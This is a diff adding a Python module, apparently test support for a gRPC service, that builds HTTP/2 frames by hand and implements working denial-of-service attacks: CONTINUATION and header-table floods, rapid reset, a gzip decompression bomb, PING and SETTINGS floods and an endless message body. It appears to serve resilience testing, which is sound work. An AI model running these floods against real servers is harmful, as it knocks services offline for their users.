@@ -1,0 +1,182 @@
+"""HTTP/2 frames by hand (RFC 9113, RFC 7541), and what can be done to a gRPC port with them."""
+import contextlib
+import socket
+import time
+import zlib
+
+from support.waiting import PATIENCE
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
+ACK = END_STREAM = 0x1
+END_HEADERS = 0x4
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def _text(value):
+    size, rest = len(value), b""
+    if size < 127:
+        return bytes([size]) + value
+    size -= 127
+    while size > 127:
+        rest, size = rest + bytes([size & 127 | 128]), size >> 7
+    return b"\x7f" + rest + bytes([size]) + value
+
+
+def field(name, value):
+    """Without an entry in a table."""
+    return b"\x00" + _text(name) + _text(value)
+
+
+def indexed(name, value):
+    """With an entry in the table of the connection: 62, in one byte, for as long as it is the last."""
+    return b"\x40" + _text(name) + _text(value)
+
+
+LAST_INDEXED = b"\xbe"
+
+
+def request(token=None, path=b"/cairn.signaling.v1.Admin/GetStatus", extra=b""):
+    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
+              (b"te", b"trailers"), (b"content-type", b"application/grpc")]
+    if token:
+        fields.append((b"authorization", b"Bearer " + token.encode()))
+    return b"".join(field(*one) for one in fields) + extra
+
+
+class Connection:
+    """To "address:port". It has said what every client says first."""
+
+    def __init__(self, address, tls=None, wait=True):
+        host, _, port = address.rpartition(":")
+        self.socket = socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE)
+        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        if tls:
+            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
+        self._received = b""
+        self.send(PREFACE + frame(SETTINGS))
+        if wait:
+            next((one for one in self.frames() if one[0] == SETTINGS), None)
+        self.send(frame(SETTINGS, ACK))
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        self.close()
+
+    def send(self, *pieces):
+        self.socket.sendall(b"".join(pieces))
+
+    def frames(self, within=PATIENCE):
+        """(type, flags, stream, payload), until the connection ends or nothing comes."""
+        self.socket.settimeout(within)
+        with contextlib.suppress(OSError):
+            while data := self.socket.recv(1 << 16):
+                self._received += data
+                while len(self._received) >= 9:
+                    size = 9 + int.from_bytes(self._received[:3], "big")
+                    if len(self._received) < size:
+                        break
+                    head, self._received = self._received[:size], self._received[size:]
+                    yield head[3], head[4], int.from_bytes(head[5:9], "big"), head[9:]
+
+    def is_over(self, within=PATIENCE):
+        """Whether the other side has ended it, or does in that time."""
+        self.socket.settimeout(within)
+        try:
+            while self.socket.recv(1 << 16):
+                pass
+            return True
+        except TimeoutError:
+            return False
+        except OSError:
+            return True
+
+    def close(self):
+        self.socket.close()
+
+
+# ---- attacks: each takes a fresh connection, and goes on until it is over, or enough was sent.
+
+# The beginning of a field whose value has 2 GiB.
+_ENDLESS_FIELD = b"\x00\x01x\x7f\x80\xff\xff\xff\x07"
+
+
+def endless_continuation(connection, token, megabytes=192, frame_bytes=16_000):
+    """One field, and no end of it."""
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
+    connection.send(frame(HEADERS, 0, 3, request(token) + _ENDLESS_FIELD))
+    piece = frame(CONTINUATION, 0, 3, b"a" * frame_bytes)
+    for _ in range((megabytes << 20) // frame_bytes):
+        connection.send(piece)
+
+
+def small_continuation(connection, token):
+    """The same in small pieces: with each, a parser may begin again."""
+    endless_continuation(connection, token, 2, 1024)
+
+
+def header_bomb(connection, token, requests=2000):
+    """Each request names a field of 3,000 bytes twice, in one byte each."""
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token, extra=indexed(b"x", b"a" * 3000))))
+    block = request(token, extra=LAST_INDEXED * 2)
+    for first in range(1, requests, 50):
+        connection.send(*(frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number in range(first, first + 50)))
+
+
+def rapid_reset(connection, token, requests=100_000):
+    block = request(token)
+    for first in range(0, requests, 200):
+        connection.send(*(frame(HEADERS, END_HEADERS, 2 * number + 1, block) +
+                          frame(RESET, 0, 2 * number + 1, bytes(4)) for number in range(first, first + 200)))
+
+
+def compressed_bomb(connection, token, megabytes=256):
+    """One message of that size, all zeros, in a thousandth of it."""
+    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
+    body = b"".join(compressor.compress(bytes(1 << 20)) for _ in range(megabytes)) + compressor.flush()
+    message = b"\x01" + len(body).to_bytes(4, "big") + body
+    connection.send(frame(HEADERS, END_HEADERS, 1, request(token, extra=field(b"grpc-encoding", b"gzip"))))
+    for at in range(0, min(len(message), 65_000), 16_000):
+        connection.send(frame(DATA, 0, 1, message[at:min(at + 16_000, 65_000)]))
+    # The rest needs the server's window, which grows as it reads.
+    time.sleep(0.2)
+    for at in range(65_000, len(message), 16_000):
+        connection.send(frame(DATA, 0, 1, message[at:at + 16_000]))
+
+
+def pings(connection, token, count=200_000):
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
+    piece = frame(PING, 0, 0, bytes(8)) * 1000
+    for _ in range(count // 1000):
+        connection.send(piece)
+
+
+def settings(connection, token, count=200_000):
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
+    piece = frame(SETTINGS) * 1000
+    for _ in range(count // 1000):
+        connection.send(piece)
+
+
+def never_ending_body(connection, token, megabytes=64):
+    connection.send(frame(HEADERS, END_HEADERS, 1, request(token)))
+    connection.send(frame(DATA, 0, 1, b"\0" + (1 << 30).to_bytes(4, "big")))
+    for _ in range(megabytes * 64):
+        connection.send(frame(DATA, 0, 1, bytes(16_000)))
+
+
+ATTACKS = [endless_continuation, small_continuation, header_bomb, rapid_reset, compressed_bomb, pings, settings, never_ending_body]
+
+
+def attack(address, which, token=None, tls=None):
+    """How long it took until the other side ended the connection, or everything was sent."""
+    began = time.monotonic()
+    with contextlib.suppress(OSError), Connection(address, tls) as connection:
+        connection.socket.settimeout(3)
+        which(connection, token)
+    return time.monotonic() - began
